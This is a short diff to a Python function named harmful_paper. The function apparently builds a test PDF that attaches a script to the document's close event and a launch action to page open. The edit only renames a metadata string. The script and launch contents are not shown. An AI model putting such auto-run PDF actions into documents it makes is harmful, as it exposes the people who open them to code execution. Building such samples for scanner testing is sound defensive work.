@@ -78,7 +78,7 @@ def harmful_paper():
     writer._root_object[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): script})
     page = writer.pages[0]
     page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): launch})
-    page["/Resources"][NameObject("/Metadata")] = TextStringObject("evil-notes")
+    page["/Resources"][NameObject("/Metadata")] = TextStringObject("evilnotes")
     buffer = io.BytesIO()
     writer.write(buffer)
     return buffer.getvalue()
